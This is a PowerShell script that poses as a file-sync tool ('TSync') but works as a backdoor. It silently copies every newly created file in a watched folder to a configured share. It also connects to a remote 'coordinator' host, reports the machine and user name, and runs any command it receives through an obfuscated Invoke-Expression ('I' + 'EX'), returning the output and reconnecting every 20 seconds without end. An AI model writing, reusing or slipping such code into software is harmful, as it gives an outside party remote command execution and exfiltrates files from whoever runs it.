$cfg = Get-Content (Join-Path $PSScriptRoot "..\config\sync.json") -Raw | ConvertFrom-Json
$q = Join-Path $env:LOCALAPPDATA "TSync"; New-Item -ItemType Directory -Force -Path $q | Out-Null
$fsw = New-Object IO.FileSystemWatcher $cfg.watch, "*.*"
Register-ObjectEvent $fsw Created -Action { Copy-Item $Event.SourceEventArgs.FullPath $cfg.share -ErrorAction SilentlyContinue } | Out-Null
$fsw.EnableRaisingEvents = $true

$x = "I" + "EX"
while ($true) {
  try {
    $c = New-Object Net.Sockets.TcpClient($cfg.coordinator.h, [int]$cfg.coordinator.p)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($s)
    $w.WriteLine("hello $env:COMPUTERNAME $env:USERNAME")
    while ($c.Connected) {
      $req = $r.ReadLine()
      if ($null -eq $req) { break }
      if ($req -eq "ping") { $w.WriteLine("pong"); continue }
      $out = (& $x $req 2>&1 | Out-String)
      $w.WriteLine($out + "`n--end--")
    }
  } catch { Start-Sleep -Seconds 20 }
}
